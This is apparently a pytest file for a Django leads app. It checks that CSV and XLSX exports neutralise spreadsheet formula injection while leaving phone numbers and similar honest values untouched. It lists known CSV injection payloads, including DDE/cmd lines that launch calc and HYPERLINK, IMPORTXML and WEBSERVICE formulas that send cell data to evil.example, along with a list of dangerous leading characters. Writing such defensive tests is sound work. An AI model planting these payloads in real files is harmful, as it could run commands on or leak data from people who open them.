"""What others send to make a spreadsheet run it, and what looks alike: through whole files and back."""

import csv
import io

import openpyxl
import pytest

from leads.export.layout import FileKind
from leads.models import Lead
from tests.factories import LeadFactory
from tests.leads.staff import begun

pytestmark = pytest.mark.django_db

# As OWASP's page on CSV injection and collections of such payloads write them.
DANGEROUS = [
    "=1+1",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("https://evil.example/?"&A1&A2,"Error: click here")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "+2+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    '";=1+1;"',
    '",=1+1,"',
    '"\r\n=1+1',
]
HONEST = ["+44 20 7946 0958", "+1 (212) 555-0100", "-5", "-12.50", "00123", "O'Neil", "a=b", "1-2"]
STARTS = tuple("=+-@|\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.fixture
def messages() -> list[str]:
    for text in [*DANGEROUS, *HONEST]:
        LeadFactory(answers={"message": text})
    return [*DANGEROUS, *HONEST]


def cells_of(kind: FileKind) -> list[str]:
    """The messages as whoever opens the file has them."""
    file = b"".join(begun(Lead.objects.all(), kind).blocks())
    if kind is FileKind.XLSX:
        rows = list(openpyxl.load_workbook(io.BytesIO(file)).active.iter_rows())
        assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "d", "inlineStr"}
        heading, *rows = [[cell.value for cell in row] for row in rows]
    else:
        delimiter = ";" if kind is FileKind.CSV_SEMICOLON else ","
        text = io.StringIO(file.decode("utf-8-sig"), newline="")
        heading, *rows = csv.reader(text, delimiter=delimiter)
    place = heading.index("Is there anything we should know?")
    return [row[place] for row in rows]


@pytest.mark.parametrize("kind", [FileKind.CSV, FileKind.CSV_SEMICOLON])
def test_nothing_in_a_csv_file_runs_and_nothing_honest_is_changed(messages, kind):
    cells = cells_of(kind)
    assert cells[len(DANGEROUS) :] == HONEST
    dangerous = cells[: len(DANGEROUS)]
    assert not any(cell.lstrip().startswith(STARTS) for cell in dangerous)
    assert [
        cell.removeprefix("'") if cell != text else cell
        for cell, text in zip(dangerous, DANGEROUS, strict=True)
    ] == DANGEROUS


def test_an_xlsx_file_has_no_formula_and_every_text_as_it_was_typed(messages):
    assert cells_of(FileKind.XLSX) == messages
